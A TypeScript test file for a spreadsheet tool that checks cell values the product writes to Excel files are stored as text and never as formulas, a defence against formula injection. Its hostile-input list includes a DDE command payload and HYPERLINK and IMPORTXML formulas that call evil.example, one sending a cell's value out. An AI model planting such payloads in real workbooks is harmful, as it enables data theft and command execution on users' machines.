/**
 * Formula injection: text the product writes into a cell — copied from another cell (debt and
 * department names, sheet names, replaced values in the change log), from the workbook's stored
 * settings (catalog names and notes), or made by the engine (finding messages, formula text in
 * the change log) — is written as text, never as a formula, whatever it starts with. Checked
 * through the file writer: read back with readWorkbook the cell has no formula and holds the exact
 * string, and the sheet XML holds no <f> for it.
 */
import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import { inspect, recalc, runAll } from '../src/core/engine';
import { emptyChangeSet, type ChangeSet } from '../src/core/changes';
import type { Workbook } from '../src/core/workbook';
import { parseA1 } from '../src/core/workbook';
import { CHANGE_LOG_HEADER_ROW, CHANGE_LOG_SHEET } from '../src/core/recalc/change-log';
import { DATA_SHEET, readWorkbookData, workbookDataCells } from '../src/core/workbook-data';
import { readWorkbook } from '../src/hosts/file/read';
import { writeWorkbook } from '../src/hosts/file/write';
import { addPlan, type PlanRow } from './fixtures/bad/build';

/** Text a spreadsheet would take for a formula if typed or written carelessly. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/","x")',
  "=cmd|' /C calc'!A0",
  '=1+1',
  '+81-3-1234-5678',
  '-2+3',
  '@SUM(A1:A9)',
  '=',
  ' =1+1',
  '\t=1+1',
  '＝1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
  "=' O'Neil's'!A1",
] as const;

/** Sheet names that start like a formula (Excel accepts them). */
const HOSTILE_SHEETS = ['=1+2', '+R3', '-2-1', '@計画'] as const;

async function xlsx(build: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  build(wb);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/**
 * The plan rows: hostile names in the label and remarks columns, a wrong delta, and one delta
 * typed as hostile text (one among numbers, so that the column is still read as deltas).
 */
function hostileRows(typedDelta: string = HOSTILE[2]): PlanRow[] {
  return [
    { dept: HOSTILE[1], debt: HOSTILE[0], values: [96.2, 96.0, 97.3], delta: 9.9, note: HOSTILE[10] },
    { dept: '税務課', debt: HOSTILE[3], values: [84.9, 85.0, 89.2], delta: typedDelta, note: HOSTILE[4] },
    { dept: HOSTILE[5], debt: HOSTILE[7], values: [98.0, 97.9, 98.5] },
    { dept: '住宅課', debt: HOSTILE[9], values: [81.4, 83.6, 80.2] },
    { dept: '福祉課', debt: '市税', values: [90.1, 90.0, 91.3] },
    { dept: '福祉課', debt: '介護保険料', values: [97.0, 97.5, 97.7] },
  ];
}

/** The text typed into a delta cell of each hostile sheet. */
const TYPED_DELTAS = [HOSTILE[2], HOSTILE[0], HOSTILE[11], HOSTILE[6]] as const;

/** The worksheet part of every sheet name. */
function sheetXml(data: Uint8Array): Map<string, string> {
  const files = unzipSync(data);
  const wb = strFromU8(files['xl/workbook.xml']);
  const rels = strFromU8(files['xl/_rels/workbook.xml.rels']);
  const out = new Map<string, string>();
  const unescape = (s: string) => s.replace(/&quot;/g, '"').replace(/&apos;/g, "'").replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&amp;/g, '&');
  for (const m of wb.matchAll(/<sheet\b[^>]*\bname="([^"]*)"[^>]*\br:id="([^"]+)"/g)) {
    const target = new RegExp(`Id="${m[2]}"[^>]*Target="([^"]+)"|Target="([^"]+)"[^>]*Id="${m[2]}"`).exec(rels);
    const path = (target?.[1] ?? target?.[2] ?? '').replace(/^\//, '');
    out.set(unescape(m[1]), strFromU8(files[path.startsWith('xl/') ? path : `xl/${path}`]));
  }
  return out;
}

/** The XML of one cell (<c r="B2" …>…</c>), or null. */
function cellXml(xml: string, ref: string): string | null {
  return new RegExp(`<c r="${ref}"[^>]*?(?:/>|>[\\s\\S]*?</c>)`).exec(xml)?.[0] ?? null;
}

/** Every string the ChangeSet writes as a value: each must come back as exactly that text. */
function expectWrittenAsText(data: Uint8Array, read: Workbook, cs: ChangeSet): number {
  const xml = sheetXml(data);
  let n = 0;
  for (const w of cs.cells) {
    if (typeof w.value !== 'string' || w.value === '' || w.formula !== undefined) continue;
    const { r, c } = parseA1(w.cell);
    const cell = read.sheets.find((s) => s.name === w.sheet)?.rows[r]?.[c];
    expect({ at: `${w.sheet}!${w.cell}`, value: cell?.value, formula: cell?.formula }).toEqual({ at: `${w.sheet}!${w.cell}`, value: w.value, formula: undefined });
    expect(cellXml(xml.get(w.sheet) ?? '', w.cell)).not.toMatch(/<f[ >]/);
    n++;
  }
  return n;
}

describe('formula injection through the file writer', () => {
  it('any string value is written as text: read back exactly, no formula, no <f> in the sheet', async () => {
    const original = await xlsx((wb) => wb.addWorksheet('計画').getCell('A1').value = 'x');
    const snapshot = await readWorkbook(original);
    const cs = emptyChangeSet();
    cs.sheets.push({ name: '出力', mode: 'create', state: 'visible' });
    HOSTILE.forEach((s, i) => {
      cs.cells.push({ sheet: '計画', cell: `B${i + 1}`, value: s });
      cs.cells.push({ sheet: '出力', cell: `A${i + 1}`, value: s, bold: true, numberFormat: '0.0' });
    });
    const { data } = writeWorkbook(original, cs, snapshot);
    expect(expectWrittenAsText(data, await readWorkbook(data), cs)).toBe(HOSTILE.length * 2);
  });

  it('recalc: the change log holds hostile sheet names, replaced values and formulas as text', async () => {
    const original = await xlsx((wb) => {
      HOSTILE_SHEETS.forEach((name, i) => addPlan(wb.addWorksheet(name), hostileRows(TYPED_DELTAS[i])));
    });
    const snapshot = await readWorkbook(original);
    const { changes, report } = recalc(snapshot, 'hostile.xlsx', '2026-01-15 09:00');
    // Every typed delta is replaced, so every hostile value typed there reaches the log.
    const befores = report.changes.map((c) => c.before);
    for (const s of [...TYPED_DELTAS, 9.9]) expect(befores).toContain(s);
    const { data } = writeWorkbook(original, changes, snapshot);
    const read = await readWorkbook(data);
    const log = read.sheets.find((s) => s.name === CHANGE_LOG_SHEET)!;
    // Per logged change: the stamp, the sheet, the cell, the formula (and the before value when text).
    expect(expectWrittenAsText(data, read, changes)).toBeGreaterThanOrEqual(report.changes.length * 4);
    // The log's sheet column holds the names exactly; its before column the typed text exactly.
    const column = (c: number) => log.rows.slice(CHANGE_LOG_HEADER_ROW).map((row) => row[c]?.value);
    expect(new Set(column(1))).toEqual(new Set(HOSTILE_SHEETS));
    expect(column(3)).toEqual(expect.arrayContaining([...TYPED_DELTAS]));
    expect(column(4).every((f) => typeof f === 'string' && f.startsWith('='))).toBe(true);
    for (const row of log.rows) for (const cell of row) expect(cell?.formula).toBeUndefined();
    // The plan cells the user typed are untouched: still the same text, no formula.
    const plan = read.sheets.find((s) => s.name === HOSTILE_SHEETS[0])!;
    expect([plan.rows[5][2], plan.rows[5][1], plan.rows[5][7], plan.rows[8][2]]).toEqual([
      { value: HOSTILE[0] },
      { value: HOSTILE[1] },
      { value: HOSTILE[10] },
      { value: HOSTILE[9] },
    ]);
  });

  it('summary (run): department and debt names copied from the plan are text on the 集計 sheet', async () => {
    const original = await xlsx((wb) => addPlan(wb.addWorksheet('計画'), hostileRows()));
    const snapshot = await readWorkbook(original);
    const result = runAll(snapshot, 'hostile.xlsx', '2026-01-15 09:00');
    const copied = result.changes.cells.filter((w) => w.sheet === result.sheetNames.summary && typeof w.value === 'string' && (HOSTILE as readonly string[]).includes(w.value));
    expect(copied.length).toBeGreaterThan(0);
    const { data } = writeWorkbook(original, result.changes, snapshot);
    expectWrittenAsText(data, await readWorkbook(data), result.changes);
  });

  it('catalog names and notes stored in the workbook are written as text and read back exactly', async () => {
    const entries = HOSTILE.slice(0, 6).map((s, i) => ({ name: `${s}${i}`, class: '私債権' as const, note: HOSTILE[(i + 6) % HOSTILE.length].trim() || '=', aliases: [`@${i}`] }));
    const original = await xlsx((wb) => wb.addWorksheet('計画').getCell('A1').value = 'x');
    const snapshot = await readWorkbook(original);
    const cs = emptyChangeSet();
    cs.sheets.push({ name: DATA_SHEET, mode: 'create', state: 'veryHidden' });
    workbookDataCells({ catalog: { version: 1, entries } }).forEach((text, i) => cs.cells.push({ sheet: DATA_SHEET, cell: `A${i + 1}`, value: text }));
    const { data } = writeWorkbook(original, cs, snapshot);
    const read = await readWorkbook(data);
    expectWrittenAsText(data, read, cs);
    const stored = readWorkbookData(read);
    expect(stored.findings).toEqual([]);
    expect(stored.overrides?.entries.map((e) => [e.name, e.note, e.aliases])).toEqual(entries.map((e) => [e.name, e.note, e.aliases]));
  });

  it('finding messages quoting hostile names are text when written into cells', async () => {
    const original = await xlsx((wb) => addPlan(wb.addWorksheet('計画'), hostileRows()));
    const snapshot = await readWorkbook(original);
    const report = inspect(snapshot, 'hostile.xlsx');
    const quoting = report.issues.filter((i) => HOSTILE.some((h) => i.message.includes(h)));
    expect(quoting.length).toBeGreaterThan(0);
    const cs = emptyChangeSet();
    cs.sheets.push({ name: '指摘', mode: 'create', state: 'visible' });
    // Messages, and the quoted names alone (a message may start with one).
    report.issues.forEach((i, k) => {
      cs.cells.push({ sheet: '指摘', cell: `A${k + 1}`, value: i.message });
      cs.cells.push({ sheet: '指摘', cell: `B${k + 1}`, value: /「(.*)」/.exec(i.message)?.[1] ?? i.message });
    });
    const { data } = writeWorkbook(original, cs, snapshot);
    expectWrittenAsText(data, await readWorkbook(data), cs);
  });
});
